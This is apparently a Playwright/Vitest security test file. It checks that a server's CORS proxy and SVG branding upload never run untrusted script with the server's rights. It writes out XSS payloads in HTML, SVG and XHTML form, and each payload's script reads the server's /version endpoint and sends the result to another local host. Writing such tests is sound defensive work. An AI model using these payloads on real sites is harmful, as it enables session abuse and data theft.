import { findTestBrowser, startUpstream, type Upstream } from '@svc/test-kit'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestServer, type TestServer } from '../support/server.ts'

const executablePath = findTestBrowser()

const HTML = '<!doctype html><title>x</title><script>SCRIPT</script><img src=x onerror="SCRIPT">'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="SCRIPT"><script>SCRIPT</script></svg>'
const XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><body><script>SCRIPT</script></body></html>'

/** Replies of a server elsewhere whose script must not run with the rights of ours, by a name. */
const REPLIES: Readonly<Record<string, { readonly type: string | undefined; readonly body: string }>> = {
  html: { type: 'text/html; charset=utf-8', body: HTML },
  'html in capitals': { type: 'TEXT/HTML', body: HTML },
  xhtml: { type: 'application/xhtml+xml', body: XHTML },
  svg: { type: 'image/svg+xml', body: SVG },
  xml: { type: 'text/xml', body: XHTML },
  'html without a type': { type: undefined, body: HTML },
  'html as text': { type: 'text/plain', body: HTML },
  'html as an unknown type': { type: 'application/x-unknown', body: HTML },
  'an odd type': { type: 'text/html ,text/plain', body: HTML },
}

describe.skipIf(executablePath === undefined)('in Chromium', () => {
  let server: TestServer
  let elsewhere: Upstream
  let browser: Browser
  beforeAll(async () => {
    elsewhere = await startUpstream()
    server = await startTestServer({ flags: ['--content-url-allow=127.0.0.1'] })
    browser = await chromium.launch({
      executablePath: executablePath ?? '',
      args: ['--no-sandbox', '--disable-dev-shm-usage'],
    })
  })
  afterAll(async () => {
    await browser?.close()
    await server?.close()
    await elsewhere?.close()
  })

  let attacks = 0
  /**
   * A text with the attack in it, and the paths that it asked for elsewhere: its script reads the page's own server with
   * its rights, and sends the result to another. Each attack has a mark of its own: a request of an earlier page may
   * arrive after that page was closed.
   */
  function attackWith(text: string): { readonly body: string; readonly sent: () => readonly string[] } {
    attacks += 1
    const mark = `/ran-${attacks}-`
    const address = `http://127.0.0.1:${elsewhere.port}${mark}`
    const script = `fetch('/version').then(r=>r.text()).then(t=>fetch('${address}?'+encodeURIComponent(t),{mode:'no-cors'}));new Image().src='${address}';parent.postMessage('ran','*')`
    return {
      body: text.replaceAll('SCRIPT', script.replaceAll('"', '&quot;')),
      sent: () => elsewhere.requests.map(({ path }) => path).filter((path) => path.startsWith(mark)),
    }
  }

  /** Opens an address of the server from a page of the server, as a frame, an object, an embedded image, and at the top. */
  async function show(page: Page, address: string): Promise<void> {
    await page.goto(`${server.url}/healthz`)
    const url = JSON.stringify(address)
    await page.evaluate(`for (const [tag, attribute] of [['iframe', 'src'], ['object', 'data'], ['embed', 'src'], ['img', 'src']]) {
      const element = document.createElement(tag)
      element.setAttribute(attribute, ${url})
      document.body.append(element)
    }`)
    await page.waitForTimeout(700)
    await page.evaluate(`void location.assign(${url})`)
    await page.waitForTimeout(700)
  }

  async function open(address: string): Promise<void> {
    const context = await browser.newContext({ acceptDownloads: false })
    try {
      await show(await context.newPage(), address)
    } finally {
      await context.close()
    }
  }

  it('the script of these tests does run where nothing holds it back', async () => {
    const { body, sent } = attackWith(HTML)
    elsewhere.replyWith(({ path }) =>
      path === '/page' ? { headers: { 'content-type': 'text/html' }, body } : { body: '' },
    )
    const page = await browser.newPage()
    await page.goto(`http://127.0.0.1:${elsewhere.port}/page`)
    await expect.poll(() => sent().length).toBeGreaterThan(0)
    await page.close()
  })

  it.each(Object.keys(REPLIES))(
    'a reply through the CORS proxy never runs with the rights of the page: %s',
    async (name) => {
      const { type, body: text } = REPLIES[name] ?? { type: '', body: '' }
      const { body, sent } = attackWith(text)
      await using upstream = await startUpstream()
      upstream.replyWith({ headers: type === undefined ? {} : { 'content-type': type }, body })
      await open(`/api/cors-proxy?url=${encodeURIComponent(`http://127.0.0.1:${upstream.port}/page`)}`)
      expect(upstream.requests.length).toBeGreaterThan(0)
      expect(sent()).toEqual([])
    },
  )

  it('a script in an SVG of the branding never runs', async () => {
    const { body, sent } = attackWith(SVG)
    const form = new FormData()
    form.set('file', new Blob([body]), 'logo.svg')
    const set = await fetch(`${server.url}/api/branding/asset/logo`, { method: 'POST', body: form })
    expect(set.status, await set.text()).toBe(200)
    await open('/branding/asset/logo')
    expect(sent()).toEqual([])
  })
})
